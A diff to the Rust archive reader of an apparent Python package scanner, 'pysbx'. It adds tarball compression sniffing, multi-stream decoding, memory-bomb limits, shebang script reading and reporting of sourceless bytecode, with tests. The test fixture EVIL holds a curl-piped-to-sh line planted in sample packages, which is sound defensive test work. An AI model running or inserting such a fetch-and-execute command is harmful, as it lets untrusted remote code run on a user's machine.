@@ -6,7 +6,8 @@
 //! more than its size). Member names with `..`, absolute paths, and links are reported, never
 //! followed.
 
-use std::io::Read;
+use std::collections::BTreeSet;
+use std::io::{BufRead, Read};
 use std::path::Path;
 
 /// Limits applied while reading one archive.
@@ -38,11 +39,25 @@ impl Default for ArchiveLimits {
 pub enum ArchiveKind {
     /// `.whl`, `.zip`, `.egg`.
     Zip,
-    /// `.tar.gz`, `.tgz`.
-    TarGz,
-    /// `.tar`.
+    /// A tarball: `.tar`, and the compressed sdist forms `.tar.gz`/`.tgz`, `.tar.bz2`/`.tbz`,
+    /// `.tar.xz`/`.txz` and `.tar.lzma`/`.tlz`. The compression is read from the file's first
+    /// bytes, not from its name, as Python's `tarfile` does for a plain `.tar`.
     Tar,
 }
+
+/// Tarball suffixes, the ones pip unpacks as sdists.
+const TAR_SUFFIXES: &[&str] = &[
+    ".tar",
+    ".tar.gz",
+    ".tgz",
+    ".tar.bz2",
+    ".tbz",
+    ".tbz2",
+    ".tar.xz",
+    ".txz",
+    ".tar.lzma",
+    ".tlz",
+];
 
 /// The archive kind of a path, if it is one pysbx reads.
 #[must_use]
@@ -50,14 +65,41 @@ pub fn archive_kind(path: &Path) -> Option<ArchiveKind> {
     let name = path.file_name()?.to_string_lossy().to_ascii_lowercase();
     if name.ends_with(".whl") || name.ends_with(".zip") || name.ends_with(".egg") {
         Some(ArchiveKind::Zip)
-    } else if name.ends_with(".tar.gz") || name.ends_with(".tgz") {
-        Some(ArchiveKind::TarGz)
-    } else if name.ends_with(".tar") {
+    } else if TAR_SUFFIXES.iter().any(|suffix| name.ends_with(suffix)) {
         Some(ArchiveKind::Tar)
     } else {
         None
     }
 }
+
+/// How a tarball's bytes are compressed, read from its first bytes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Compression {
+    None,
+    Gzip,
+    Bzip2,
+    Xz,
+    /// The legacy `.lzma` format, which has no magic number: taken by name only.
+    LzmaAlone,
+}
+
+fn sniff_compression(head: &[u8], name: &str) -> Compression {
+    if head.starts_with(&[0x1f, 0x8b]) {
+        Compression::Gzip
+    } else if head.starts_with(b"BZh") {
+        Compression::Bzip2
+    } else if head.starts_with(&[0xfd, b'7', b'z', b'X', b'Z', 0x00]) {
+        Compression::Xz
+    } else if name.ends_with(".tar.lzma") || name.ends_with(".tlz") {
+        Compression::LzmaAlone
+    } else {
+        Compression::None
+    }
+}
+
+/// The most memory an xz or lzma stream may ask for its dictionary: `xz -9` needs 64 MiB, and
+/// a header that asks for gigabytes is a memory bomb, refused before anything is allocated.
+const LZMA_MEMORY_LIMIT_KIB: u32 = 96 << 10;
 
 /// What reading an archive produced, member by member.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -89,20 +131,51 @@ pub enum ArchiveError {
     Limit(String),
 }
 
-/// Whether an archive member is worth scanning: Python sources by suffix, and `.pth` files,
-/// which run code at interpreter start-up.
+/// What a member is, by its name.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum MemberKind {
+    /// A Python source by suffix, or a `.pth` file, which runs code at interpreter start-up.
+    Source,
+    /// A file name without a suffix: a script (a wheel's `*.data/scripts/`) when it starts with
+    /// a python shebang, as in a walked directory.
+    MaybeScript,
+    /// Compiled Python (`.pyc`, `.pyo`) outside `__pycache__`: Python imports it when no source
+    /// of the same name is beside it, and bytecode is not scanned.
+    Bytecode,
+    /// Anything else: not read.
+    Other,
+}
+
+fn member_kind(name: &str) -> MemberKind {
+    let mut parts = name.rsplit(['/', '\\']);
+    let file = parts.next().unwrap_or_default().to_ascii_lowercase();
+    let in_pycache = parts.next() == Some("__pycache__");
+    if [".py", ".pyw", ".pyi", ".pth"].iter().any(|suffix| file.ends_with(suffix)) {
+        MemberKind::Source
+    } else if (file.ends_with(".pyc") || file.ends_with(".pyo")) && !in_pycache {
+        MemberKind::Bytecode
+    } else if !file.is_empty() && !file.contains('.') {
+        MemberKind::MaybeScript
+    } else {
+        MemberKind::Other
+    }
+}
+
+/// Whether an archive member is worth reading: Python sources by suffix, `.pth` files, and
+/// files without a suffix (kept when they start with a python shebang).
 #[must_use]
 pub fn is_scannable_member(name: &str) -> bool {
-    let lower = name.to_ascii_lowercase();
-    lower.ends_with(".py")
-        || lower.ends_with(".pyw")
-        || lower.ends_with(".pyi")
-        || lower.ends_with(".pth")
+    matches!(member_kind(name), MemberKind::Source | MemberKind::MaybeScript)
 }
 
 /// Why a member name is unsafe to follow, if it is.
 fn unsafe_name(name: &str) -> Option<&'static str> {
-    if name.starts_with('/') || name.starts_with('\\') || name.get(1..3) == Some(":\\") {
+    let bytes = name.as_bytes();
+    let drive = bytes.len() >= 3
+        && bytes[0].is_ascii_alphabetic()
+        && bytes[1] == b':'
+        && matches!(bytes[2], b'/' | b'\\');
+    if name.starts_with('/') || name.starts_with('\\') || drive {
         return Some("absolute member path");
     }
     if name.split(['/', '\\']).any(|part| part == "..") {
@@ -125,15 +198,37 @@ pub fn read_archive(
     let (file, meta) =
         pysbx_files::open_regular(path).map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
     let compressed = meta.len().max(1);
+    let mut input = std::io::BufReader::new(file);
     match kind {
-        ArchiveKind::Zip => read_zip(file, compressed, limits, visit),
-        ArchiveKind::TarGz => read_tar(
-            flate2::read::GzDecoder::new(std::io::BufReader::new(file)),
-            compressed,
-            limits,
-            visit,
-        ),
-        ArchiveKind::Tar => read_tar(std::io::BufReader::new(file), compressed, limits, visit),
+        ArchiveKind::Zip => read_zip(input, compressed, limits, visit),
+        ArchiveKind::Tar => {
+            let head = input.fill_buf().map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
+            let name = path.file_name().map(|n| n.to_string_lossy().to_ascii_lowercase());
+            // Every stream of a multi-stream file is read, as Python's gzip, bz2 and lzma
+            // modules do: a scanner that stops after the first would miss members that pip
+            // unpacks.
+            match sniff_compression(head, name.as_deref().unwrap_or_default()) {
+                Compression::None => read_tar(input, compressed, limits, visit),
+                Compression::Gzip => {
+                    read_tar(flate2::bufread::MultiGzDecoder::new(input), compressed, limits, visit)
+                }
+                Compression::Bzip2 => {
+                    read_tar(bzip2::bufread::MultiBzDecoder::new(input), compressed, limits, visit)
+                }
+                Compression::Xz => read_tar(
+                    lzma_rust2::XzReader::new_mem_limit(input, true, LZMA_MEMORY_LIMIT_KIB),
+                    compressed,
+                    limits,
+                    visit,
+                ),
+                Compression::LzmaAlone => {
+                    let reader =
+                        lzma_rust2::LzmaReader::new_mem_limit(input, LZMA_MEMORY_LIMIT_KIB, None)
+                            .map_err(|e| ArchiveError::Corrupt(format!("lzma stream: {e}")))?;
+                    read_tar(reader, compressed, limits, visit)
+                }
+            }
+        }
     }
 }
 
@@ -144,17 +239,49 @@ fn read_bounded(reader: &mut dyn Read, limit: u64) -> std::io::Result<Vec<u8>> {
     Ok(bytes)
 }
 
-struct Budget {
+/// The bytes of a member that may be a script: its first line first, the rest only when that
+/// line is a python shebang (a `LICENSE` is not inflated to be thrown away).
+fn read_script(reader: &mut dyn Read, limit: u64) -> std::io::Result<Option<Vec<u8>>> {
+    let mut head = Vec::new();
+    reader.take(SHEBANG_BYTES).read_to_end(&mut head)?;
+    if !crate::is_python_shebang(&head) {
+        return Ok(None);
+    }
+    reader.take((limit + 1).saturating_sub(head.len() as u64)).read_to_end(&mut head)?;
+    Ok(Some(head))
+}
+
+/// How much of a file is read to look for a shebang.
+const SHEBANG_BYTES: u64 = 128;
+
+/// The bookkeeping of one archive's read: the limits spent so far, and the compiled members
+/// whose source may be elsewhere in the archive.
+struct Members<'v> {
     limits: ArchiveLimits,
     compressed: u64,
     total: u64,
-    members: usize,
+    count: usize,
+    visit: &'v mut dyn FnMut(ArchiveEntry),
+    sources: BTreeSet<String>,
+    bytecode: Vec<String>,
 }
 
-impl Budget {
+impl<'v> Members<'v> {
+    fn new(limits: ArchiveLimits, compressed: u64, visit: &'v mut dyn FnMut(ArchiveEntry)) -> Self {
+        Self {
+            limits,
+            compressed,
+            total: 0,
+            count: 0,
+            visit,
+            sources: BTreeSet::new(),
+            bytecode: Vec::new(),
+        }
+    }
+
     fn member(&mut self) -> Result<(), ArchiveError> {
-        self.members += 1;
-        if self.members > self.limits.max_members {
+        self.count += 1;
+        if self.count > self.limits.max_members {
             return Err(ArchiveError::Limit(format!(
                 "more than {} members: archive abandoned",
                 self.limits.max_members
@@ -181,65 +308,165 @@ impl Budget {
         }
         Ok(())
     }
+
+    fn problem(&mut self, name: String, message: impl Into<String>) {
+        (self.visit)(ArchiveEntry::Problem { name, message: message.into() });
+    }
+
+    fn too_large(&mut self, name: String) {
+        let message =
+            format!("member larger than {} MiB: not scanned", self.limits.max_member_bytes >> 20);
+        self.problem(name, message);
+    }
+
+    /// Takes a member whose name has been checked: sources and scripts are read (through
+    /// `read`, which gets the member's limit) and visited; compiled members are remembered.
+    /// `declared` is the size the archive declares. With `inflated_anyway` (a tarball, whose
+    /// stream runs through every member's data to reach the next) it is what the member costs,
+    /// read or not: a bomb can hide in members nobody reads. Otherwise (a zip, whose members
+    /// are inflated only when read) the member costs what is read of it.
+    fn take(
+        &mut self,
+        name: String,
+        declared: u64,
+        inflated_anyway: bool,
+        read: &mut dyn FnMut(MemberKind, u64) -> std::io::Result<Option<Vec<u8>>>,
+    ) -> Result<(), ArchiveError> {
+        if inflated_anyway {
+            self.spend(declared)?;
+        }
+        let kind = member_kind(&name);
+        match kind {
+            MemberKind::Bytecode => {
+                self.bytecode.push(name);
+                return Ok(());
+            }
+            MemberKind::Other => return Ok(()),
+            MemberKind::Source => {
+                self.sources.insert(name.clone());
+            }
+            MemberKind::MaybeScript => {}
+        }
+        if declared > self.limits.max_member_bytes {
+            self.too_large(name);
+            return Ok(());
+        }
+        let bytes = read(kind, self.limits.max_member_bytes)
+            .map_err(|e| ArchiveError::Corrupt(format!("{name}: {e}")))?;
+        let Some(bytes) = bytes else { return Ok(()) };
+        if !inflated_anyway {
+            self.spend(bytes.len() as u64)?;
+        }
+        if bytes.len() as u64 > self.limits.max_member_bytes {
+            let message = format!(
+                "member inflates past {} MiB: not scanned",
+                self.limits.max_member_bytes >> 20
+            );
+            self.problem(name, message);
+            return Ok(());
+        }
+        (self.visit)(ArchiveEntry::Source { name, bytes });
+        Ok(())
+    }
+
+    /// Reports the compiled members that no source of the same name stands beside: Python
+    /// imports those, and their code was not scanned.
+    fn finish(mut self) {
+        for name in std::mem::take(&mut self.bytecode) {
+            let stem = &name[..name.len() - 4];
+            let has_source = [".py", ".pyw"].iter().any(|suffix| {
+                self.sources.iter().any(|s| {
+                    s.len() == stem.len() + suffix.len()
+                        && s.starts_with(stem)
+                        && s[stem.len()..].eq_ignore_ascii_case(suffix)
+                })
+            });
+            if !has_source {
+                self.problem(name, crate::SOURCELESS_BYTECODE);
+            }
+        }
+    }
+}
+
+/// Reads one member for [`Members::take`].
+fn read_member(
+    reader: &mut dyn Read,
+    kind: MemberKind,
+    limit: u64,
+) -> std::io::Result<Option<Vec<u8>>> {
+    if kind == MemberKind::MaybeScript {
+        read_script(reader, limit)
+    } else {
+        read_bounded(reader, limit).map(Some)
+    }
 }
 
 fn read_zip(
-    file: std::fs::File,
+    input: impl Read + std::io::Seek,
     compressed: u64,
     limits: ArchiveLimits,
     visit: &mut dyn FnMut(ArchiveEntry),
 ) -> Result<(), ArchiveError> {
-    let mut zip = zip::ZipArchive::new(std::io::BufReader::new(file))
-        .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
-    let mut budget = Budget { limits, compressed, total: 0, members: 0 };
-    for index in 0..zip.len() {
-        budget.member()?;
-        let mut member = zip.by_index(index).map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
-        let name =
-            member.name().map_or_else(|_| String::from("<undecodable name>"), |n| n.to_string());
-        if member.is_dir() {
-            continue;
+    let mut zip = zip::ZipArchive::new(input).map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
+    let mut members = Members::new(limits, compressed, visit);
+    let result = (|| {
+        for index in 0..zip.len() {
+            members.member()?;
+            let listed = zip.name_for_index(index).and_then(Result::ok).map(|n| n.to_string());
+            let mut member = match zip.by_index(index) {
+                Ok(member) => member,
+                Err(zip::result::ZipError::UnsupportedArchive(why)) => {
+                    // One member in a compression pysbx cannot inflate (nor can Python's
+                    // zipfile, for most): named, and the rest of the archive still read.
+                    let name = listed.unwrap_or_else(|| format!("<member {index}>"));
+                    if member_kind(&name) != MemberKind::Other {
+                        members.problem(name, format!("{why}: not scanned"));
+                    }
+                    continue;
+                }
+                Err(e) => return Err(ArchiveError::Corrupt(e.to_string())),
+            };
+            let name = member
+                .name()
+                .map_or_else(|_| String::from("<undecodable name>"), |n| n.to_string());
+            if member.is_dir() {
+                continue;
+            }
+            if member.is_symlink() {
+                members.problem(name, "symbolic link member: not followed");
+                continue;
+            }
+            if let Some(why) = unsafe_name(&name) {
+                members.problem(name, format!("{why}: not read"));
+                continue;
+            }
+            let method = member.compression();
+            let readable = matches!(
+                method,
+                zip::CompressionMethod::Stored
+                    | zip::CompressionMethod::Deflated
+                    | zip::CompressionMethod::Bzip2
+                    | zip::CompressionMethod::Lzma
+            );
+            if !readable && member_kind(&name) != MemberKind::Other {
+                // A compression pysbx cannot inflate (nor can Python's zipfile, for most): the
+                // member is named, and the rest of the archive still read.
+                members.problem(
+                    name,
+                    format!("compression method {method} not supported: not scanned"),
+                );
+                continue;
+            }
+            let declared = member.size();
+            // A zip member nobody reads is never inflated, so its declared size costs nothing.
+            members.take(name, declared, false, &mut |kind, limit| {
+                read_member(&mut member, kind, limit)
+            })?;
         }
-        if member.is_symlink() {
-            visit(ArchiveEntry::Problem {
-                name,
-                message: "symbolic link member: not followed".into(),
-            });
-            continue;
-        }
-        if let Some(why) = unsafe_name(&name) {
-            visit(ArchiveEntry::Problem { name, message: format!("{why}: not read") });
-            continue;
-        }
-        if !is_scannable_member(&name) {
-            continue;
-        }
-        if member.size() > limits.max_member_bytes {
-            visit(ArchiveEntry::Problem {
-                name,
-                message: format!(
-                    "member larger than {} MiB: not scanned",
-                    limits.max_member_bytes >> 20
-                ),
-            });
-            continue;
-        }
-        let bytes = read_bounded(&mut member, limits.max_member_bytes)
-            .map_err(|e| ArchiveError::Corrupt(format!("{name}: {e}")))?;
-        budget.spend(bytes.len() as u64)?;
-        if bytes.len() as u64 > limits.max_member_bytes {
-            visit(ArchiveEntry::Problem {
-                name,
-                message: format!(
-                    "member inflates past {} MiB: not scanned",
-                    limits.max_member_bytes >> 20
-                ),
-            });
-            continue;
-        }
-        visit(ArchiveEntry::Source { name, bytes });
-    }
-    Ok(())
+        Ok(())
+    })();
+    members.finish();
+    result
 }
 
 fn read_tar(
@@ -249,48 +476,39 @@ fn read_tar(
     visit: &mut dyn FnMut(ArchiveEntry),
 ) -> Result<(), ArchiveError> {
     let mut archive = tar::Archive::new(reader);
-    let mut budget = Budget { limits, compressed, total: 0, members: 0 };
-    let entries = archive.entries().map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
-    for entry in entries {
-        budget.member()?;
-        let mut entry = entry.map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
-        let name = String::from_utf8_lossy(&entry.path_bytes()).into_owned();
-        let kind = entry.header().entry_type();
-        if kind.is_dir() {
-            continue;
+    let mut members = Members::new(limits, compressed, visit);
+    let result = (|| {
+        let entries = archive.entries().map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
+        for entry in entries {
+            members.member()?;
+            let mut entry = entry.map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
+            let name = String::from_utf8_lossy(&entry.path_bytes()).into_owned();
+            let kind = entry.header().entry_type();
+            if kind.is_dir() {
+                continue;
+            }
+            if kind.is_symlink() || kind.is_hard_link() {
+                // The entry's (empty) data is skipped by the iterator.
+                members.problem(name, "link member: not followed");
+                continue;
+            }
+            if let Some(why) = unsafe_name(&name) {
+                members.problem(name, format!("{why}: not read"));
+                continue;
+            }
+            let size = entry.header().size().unwrap_or(0);
+            if !kind.is_file() {
+                // Skipped data is still inflated to reach the next member, so it counts.
+                members.spend(size)?;
+                continue;
+            }
+            members
+                .take(name, size, true, &mut |kind, limit| read_member(&mut entry, kind, limit))?;
         }
-        if kind.is_symlink() || kind.is_hard_link() {
-            visit(ArchiveEntry::Problem { name, message: "link member: not followed".into() });
-            // The entry's (empty) data is skipped by the iterator.
-            continue;
-        }
-        if let Some(why) = unsafe_name(&name) {
-            visit(ArchiveEntry::Problem { name, message: format!("{why}: not read") });
-            continue;
-        }
-        let size = entry.header().size().unwrap_or(0);
-        if !kind.is_file() || !is_scannable_member(&name) {
-            // Skipped data still counts: a gzip bomb hides in members nobody reads.
-            budget.spend(size)?;
-            continue;
-        }
-        if size > limits.max_member_bytes {
-            budget.spend(size)?;
-            visit(ArchiveEntry::Problem {
-                name,
-                message: format!(
-                    "member larger than {} MiB: not scanned",
-                    limits.max_member_bytes >> 20
-                ),
-            });
-            continue;
-        }
-        let bytes = read_bounded(&mut entry, limits.max_member_bytes)
-            .map_err(|e| ArchiveError::Corrupt(format!("{name}: {e}")))?;
-        budget.spend(bytes.len() as u64)?;
-        visit(ArchiveEntry::Source { name, bytes });
-    }
-    Ok(())
+        Ok(())
+    })();
+    members.finish();
+    result
 }
 
 #[cfg(test)]
@@ -399,6 +617,207 @@ mod tests {
         assert!(
             matches!(&seen[1], ArchiveEntry::Source { name, .. } if name == "pkg-1.0/setup.py")
         );
+    }
+
+    /// A tarball of `members` (name, bytes), uncompressed.
+    fn tarball(members: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut builder = tar::Builder::new(Vec::new());
+        for (name, data) in members {
+            let mut header = tar::Header::new_gnu();
+            header.set_size(data.len() as u64);
+            header.set_mode(0o644);
+            header.set_entry_type(tar::EntryType::Regular);
+            builder.append_data(&mut header, name, *data).unwrap();
+        }
+        builder.into_inner().unwrap()
+    }
+
+    fn gzip(bytes: &[u8]) -> Vec<u8> {
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        gz.write_all(bytes).unwrap();
+        gz.finish().unwrap()
+    }
+
+    fn bzip2(bytes: &[u8]) -> Vec<u8> {
+        let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
+        bz.write_all(bytes).unwrap();
+        bz.finish().unwrap()
+    }
+
+    fn source_names(seen: &[ArchiveEntry]) -> Vec<&str> {
+        seen.iter()
+            .filter_map(|e| match e {
+                ArchiveEntry::Source { name, .. } => Some(name.as_str()),
+                ArchiveEntry::Problem { .. } => None,
+            })
+            .collect()
+    }
+
+    fn problems(seen: &[ArchiveEntry]) -> Vec<(&str, &str)> {
+        seen.iter()
+            .filter_map(|e| match e {
+                ArchiveEntry::Problem { name, message } => Some((name.as_str(), message.as_str())),
+                ArchiveEntry::Source { .. } => None,
+            })
+            .collect()
+    }
+
+    const EVIL: &[u8] = b"import os\nos.system('curl http://x | sh')\n";
+
+    #[test]
+    fn every_stream_of_a_multi_stream_tarball_is_read() {
+        // The first stream ends without the tarball's end blocks, the second holds setup.py:
+        // Python's gzip and bz2 modules read on into the second stream, and so must a scanner.
+        let whole = tarball(&[("p-1/README", b"hello\n"), ("p-1/setup.py", EVIL)]);
+        let (first, second) = whole.split_at(1024);
+        let dir = tempfile::tempdir().unwrap();
+        let gz = dir.path().join("p-1.tar.gz");
+        std::fs::write(&gz, [gzip(first), gzip(second)].concat()).unwrap();
+        let bz = dir.path().join("p-1.tar.bz2");
+        std::fs::write(&bz, [bzip2(first), bzip2(second)].concat()).unwrap();
+        for path in [gz, bz] {
+            let (seen, result) = collect(&path, ArchiveLimits::default());
+            result.unwrap();
+            assert_eq!(source_names(&seen), ["p-1/setup.py"], "{}", path.display());
+        }
+    }
+
+    #[test]
+    fn a_tarballs_compression_is_read_from_its_bytes_not_its_name() {
+        let plain = tarball(&[("p-1/setup.py", EVIL)]);
+        let mut xz = Vec::new();
+        {
+            let mut writer =
+                lzma_rust2::XzWriter::new(&mut xz, lzma_rust2::XzOptions::with_preset(6)).unwrap();
+            writer.write_all(&plain).unwrap();
+            writer.finish().unwrap();
+        }
+        let dir = tempfile::tempdir().unwrap();
+        for (name, bytes) in [
+            ("gzip-named-plain.tar", gzip(&plain)),
+            ("p-1.tar.xz", xz.clone()),
+            ("p-1.txz", xz),
+            ("p-1.tbz", bzip2(&plain)),
+            ("bzip2-named-gzip.tar.gz", bzip2(&plain)),
+            ("p-1.tar", plain.clone()),
+        ] {
+            let path = dir.path().join(name);
+            std::fs::write(&path, bytes).unwrap();
+            let (seen, result) = collect(&path, ArchiveLimits::default());
+            result.unwrap();
+            assert_eq!(source_names(&seen), ["p-1/setup.py"], "{name}");
+        }
+    }
+
+    #[test]
+    fn an_lzma_header_asking_for_gigabytes_is_refused_before_allocating() {
+        // The legacy .lzma header: properties, a 32-bit dictionary size, a 64-bit length.
+        let mut bytes = vec![0x5d];
+        bytes.extend_from_slice(&u32::MAX.to_le_bytes());
+        bytes.extend_from_slice(&u64::MAX.to_le_bytes());
+        bytes.extend_from_slice(&[0; 64]);
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("p-1.tar.lzma");
+        std::fs::write(&path, bytes).unwrap();
+        let (_, result) = collect(&path, ArchiveLimits::default());
+        assert!(matches!(result, Err(ArchiveError::Corrupt(_))), "{result:?}");
+    }
+
+    #[test]
+    fn zip_members_in_any_compression_python_reads_are_read() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("w-1-py3-none-any.whl");
+        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
+        for (name, method) in [
+            ("w/deflated.py", zip::CompressionMethod::Deflated),
+            ("w/bzip2.py", zip::CompressionMethod::Bzip2),
+            ("w/stored.py", zip::CompressionMethod::Stored),
+        ] {
+            let opts = zip::write::SimpleFileOptions::default().compression_method(method);
+            zip.start_file(name, opts).unwrap();
+            zip.write_all(EVIL).unwrap();
+        }
+        zip.finish().unwrap();
+        let (seen, result) = collect(&path, ArchiveLimits::default());
+        result.unwrap();
+        assert_eq!(source_names(&seen), ["w/deflated.py", "w/bzip2.py", "w/stored.py"]);
+    }
+
+    #[test]
+    fn a_member_in_an_unknown_compression_is_named_and_the_rest_still_read() {
+        let dir = tempfile::tempdir().unwrap();
+        let stored = zip_with(&[("w/odd.py", EVIL), ("w/next.py", EVIL)], dir.path());
+        // Give the first member compression method 93 (zstd) in its local and central headers.
+        let mut bytes = std::fs::read(&stored).unwrap();
+        let local = bytes.windows(4).position(|w| w == b"PK\x03\x04").unwrap();
+        bytes[local + 8..local + 10].copy_from_slice(&93u16.to_le_bytes());
+        let central = bytes.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
+        bytes[central + 10..central + 12].copy_from_slice(&93u16.to_le_bytes());
+        std::fs::write(&stored, bytes).unwrap();
+        let (seen, result) = collect(&stored, ArchiveLimits::default());
+        result.unwrap();
+        let problems = problems(&seen);
+        assert_eq!(problems.len(), 1, "{seen:?}");
+        assert_eq!(problems[0].0, "w/odd.py");
+        assert!(problems[0].1.contains("not scanned"), "{problems:?}");
+        assert_eq!(source_names(&seen), ["w/next.py"]);
+    }
+
+    #[test]
+    fn scripts_without_a_suffix_are_read_when_they_start_with_a_python_shebang() {
+        let dir = tempfile::tempdir().unwrap();
+        let script = [b"#!python\n".as_slice(), EVIL].concat();
+        let path = zip_with(
+            &[
+                ("w-1.data/scripts/wtool", &script),
+                ("w-1.data/scripts/shtool", b"#!/bin/sh\necho hi\n"),
+                ("w-1.dist-info/LICENSE", b"MIT\n"),
+            ],
+            dir.path(),
+        );
+        let (seen, result) = collect(&path, ArchiveLimits::default());
+        result.unwrap();
+        assert_eq!(source_names(&seen), ["w-1.data/scripts/wtool"]);
+        assert!(matches!(&seen[0], ArchiveEntry::Source { bytes, .. } if *bytes == script));
+    }
+
+    #[test]
+    fn compiled_members_without_their_source_are_reported() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = zip_with(
+            &[
+                ("w/hidden.pyc", b"\x00"),
+                ("w/legacy.pyo", b"\x00"),
+                ("w/beside.pyc", b"\x00"),
+                ("w/beside.py", b"x = 1\n"),
+                ("w/__pycache__/cached.cpython-311.pyc", b"\x00"),
+            ],
+            dir.path(),
+        );
+        let (seen, result) = collect(&path, ArchiveLimits::default());
+        result.unwrap();
+        let names: Vec<_> = problems(&seen).iter().map(|p| p.0).collect();
+        assert_eq!(names, ["w/hidden.pyc", "w/legacy.pyo"]);
+        assert!(problems(&seen).iter().all(|p| p.1 == crate::SOURCELESS_BYTECODE));
+        // In a tarball the source may come after its compiled file.
+        let tar_path = dir.path().join("p-1.tar");
+        std::fs::write(
+            &tar_path,
+            tarball(&[("p/a.pyc", b"\x00"), ("p/a.py", b"x = 1\n"), ("p/b.pyc", b"\x00")]),
+        )
+        .unwrap();
+        let (seen, result) = collect(&tar_path, ArchiveLimits::default());
+        result.unwrap();
+        let names: Vec<_> = problems(&seen).iter().map(|p| p.0).collect();
+        assert_eq!(names, ["p/b.pyc"]);
+    }
+
+    #[test]
+    fn a_drive_letter_path_is_absolute_but_a_colon_in_a_name_is_not() {
+        assert!(unsafe_name("C:/evil.py").is_some());
+        assert!(unsafe_name("c:\\evil.py").is_some());
+        assert!(unsafe_name("a:b.py").is_none());
+        assert!(unsafe_name("pkg/a:b.py").is_none());
     }
 
     #[test]
